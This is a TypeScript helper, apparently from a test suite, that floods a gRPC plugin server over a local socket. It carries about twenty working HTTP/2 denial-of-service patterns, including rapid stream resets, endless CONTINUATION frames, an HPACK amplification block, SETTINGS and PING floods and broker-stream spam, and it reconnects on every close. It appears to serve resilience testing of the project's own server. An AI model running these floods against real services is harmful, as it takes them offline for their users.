// Floods a gRPC server through one connection after another, until it is told to stop.
import { connect, type Socket } from "node:net";
import * as http2 from "../../../src/http2/frame.js";
import { HpackEncoder } from "../../../src/http2/hpack-encoder.js";

const CHUNK = 65_536;

function frame(type: number, flags: number, id: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const bytes = Buffer.alloc(http2.HEADER_SIZE + payload.length);
  http2.putHeader(bytes, 0, payload.length, type, flags, id);
  bytes.set(payload, http2.HEADER_SIZE);
  return bytes;
}

/** A header block that needs no table. */
function block(path: string, ...more: string[]): Buffer {
  const target = Buffer.alloc(131_072);
  const fields = [":method", "POST", ":scheme", "http", ":path", path, ":authority", "a"];
  const rest = ["te", "trailers", "content-type", "application/grpc", ...more];
  const end = new HpackEncoder(() => true).encode([...fields, ...rest], target, 0);
  return target.subarray(0, end);
}

const open = (id: number, path: string, end = false): Buffer =>
  frame(http2.HEADERS, http2.END_HEADERS | (end ? http2.END_STREAM : 0), id, block(path));

/** Messages of gRPC, in one DATA frame each. */
function data(id: number, message: Uint8Array, flags = 0): Buffer {
  const payload = Buffer.alloc(5 + message.length);
  payload.writeUInt32BE(message.length, 1);
  payload.set(message, 5);
  return frame(http2.DATA, flags, id, payload);
}

/** Makes the next frames; `id` counts streams up from 3. Null: there is no more to say. */
type Flood = (id: number) => Buffer | null;

const one = 1;
const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
/** ConnInfo: service_id, network "unix", address "/x"; or a knock. */
const varint = (value: number): number[] =>
  value < 128 ? [value] : [(value & 127) | 128, ...varint(value >>> 7)];
const announcement = (id: number): Buffer =>
  Buffer.from([0x08, ...varint(id), 0x12, 4, ...Buffer.from("unix"), 0x1a, 2, ...Buffer.from("/x")]);
const knock = (id: number): Buffer => Buffer.from([0x08, ...varint(id), 0x22, 2, 0x08, 1]);

const mirror = "/goplug.fixtures.Stream/Mirror";
const source = "/goplug.fixtures.Stream/Source";
const broker = "/plugin.GRPCBroker/StartStream";
const stdio = "/plugin.GRPCStdio/StreamStdio";

const floods: Record<string, { readonly first?: Buffer; readonly more: Flood }> = {
  SETTINGS: { more: () => frame(http2.SETTINGS, 0, 0) },
  "SETTINGS that change every window": {
    first: open(one, mirror),
    more: (id) => frame(http2.SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, 4), u32(id & 0xffff)])),
  },
  PING: { more: () => frame(http2.PING, 0, 0, Buffer.alloc(8)) },
  "answers to no PING": { more: () => frame(http2.PING, http2.ACK, 0, Buffer.alloc(8)) },
  "streams that are reset at once": {
    more: (id) => Buffer.concat([open(id, mirror), frame(http2.RST_STREAM, 0, id, u32(8))]),
  },
  "streams that stay": { more: (id) => open(id, mirror) },
  "calls of no method": { more: (id) => open(id, "/no.Such/Method", true) },
  "empty DATA": { first: open(one, mirror), more: () => frame(http2.DATA, 0, one) },
  "empty messages": { first: open(one, mirror), more: () => data(one, Buffer.alloc(0)) },
  "CONTINUATION without an end": {
    first: frame(http2.HEADERS, 0, one, block(mirror)),
    more: () => frame(http2.CONTINUATION, 0, one, Buffer.alloc(1024, "\u0000\u0001a\u0001b")),
  },
  "empty CONTINUATION": {
    first: frame(http2.HEADERS, 0, one, block(mirror)),
    more: () => frame(http2.CONTINUATION, 0, one),
  },
  "large headers": {
    more: (id) => frame(http2.HEADERS, http2.END_HEADERS, id, block(mirror, "x", "y".repeat(16_000))),
  },
  "headers that name one large field of the table a thousand times": {
    // Literal with indexing, then index 62 again and again.
    more: (id) =>
      frame(
        http2.HEADERS,
        http2.END_HEADERS,
        id,
        Buffer.concat([
          block(mirror),
          Buffer.from([0x40, 1, 0x78, 0x7f, ...varint(3900 - 127)]),
          Buffer.alloc(3900, "y"),
          Buffer.alloc(10_000, 0xbe),
        ]),
      ),
  },
  WINDOW_UPDATE: { first: open(one, mirror), more: () => frame(http2.WINDOW_UPDATE, 0, one, u32(1)) },
  PRIORITY: { more: (id) => frame(http2.PRIORITY, 0, id, Buffer.alloc(5)) },
  "unknown frames": { more: () => frame(0x77, 0, 0, Buffer.alloc(1000)) },
  "RST_STREAM of unknown streams": {
    first: open(1_000_001, mirror),
    more: (id) => frame(http2.RST_STREAM, 0, (id % 1_000_001) | 1, u32(8)),
  },
  "answers that nobody reads": {
    more: (id) => Buffer.concat([open(id, source), data(id, Buffer.alloc(0), http2.END_STREAM)]),
  },
  "announcements of the broker": { first: open(one, broker), more: (id) => data(one, announcement(id)) },
  "knocks at the broker": { first: open(one, broker), more: (id) => data(one, knock(id)) },
  "calls for the output": {
    more: (id) => Buffer.concat([open(id, stdio), data(id, Buffer.alloc(0), http2.END_STREAM)]),
  },
};

/** What fits the connection's window: more waits for the victim to open it. */
const isData = (bytes: Buffer): boolean => bytes[3] === http2.DATA;

let socket: Socket | undefined;
let sent = 0;
let connections = 0;
let isStopped = false;

function attack(path: string, name: string): void {
  if (isStopped) return;
  const { first = Buffer.alloc(0), more } = floods[name]!;
  const attacking = connect(path);
  socket = attacking;
  connections++;
  let id = 3;
  // The connection's window and the stream's, as far as they have been opened.
  let credit = 65_535;
  let isWaiting = false;
  // A chunk a turn of the event loop: while the victim keeps up, orders would not be heard otherwise.
  const later = (): void => void setImmediate(pump);
  const pump = (): void => {
    isWaiting = false;
    if (attacking.destroyed || isStopped) return;
    const parts: Buffer[] = [];
    for (let length = 0; length < CHUNK; id += 2) {
      const part = more(id)!;
      if (isData(part)) {
        if (credit < part.length) break;
        credit -= part.length;
      }
      parts.push(part);
      length += part.length;
    }
    if (parts.length === 0) {
      isWaiting = true;
      return;
    }
    const chunk = Buffer.concat(parts);
    sent += chunk.length;
    if (attacking.write(chunk)) later();
    else attacking.once("drain", later);
  };
  attacking.on("error", () => {});
  attacking.on("close", () => setTimeout(() => attack(path, name), 5));
  attacking.once("connect", () => {
    attacking.write(Buffer.concat([http2.PREFACE, frame(http2.SETTINGS, 0, 0), first]));
    pump();
  });
  if (name.includes("nobody reads")) return;
  let pending = Buffer.alloc(0);
  attacking.on("data", (chunk) => {
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= http2.HEADER_SIZE) {
      const length = pending.readUIntBE(0, 3);
      if (pending.length < http2.HEADER_SIZE + length) break;
      // Stream windows are opened along with the connection's; one of them is enough to go by.
      if (pending[3] === http2.WINDOW_UPDATE && pending.readUInt32BE(5) === 0)
        credit += pending.readUInt32BE(9);
      pending = pending.subarray(http2.HEADER_SIZE + length);
    }
    if (isWaiting) pump();
  });
}

process.on("message", (order: { path: string; name: string } | "report" | "stop") => {
  if (order === "report") process.send!({ sent, connections });
  else if (order === "stop") {
    isStopped = true;
    socket?.destroy();
    process.send!("stopped");
  } else {
    isStopped = false;
    sent = 0;
    connections = 0;
    attack(order.path, order.name);
    process.send!("attacking");
  }
});
process.on("disconnect", () => process.exit());
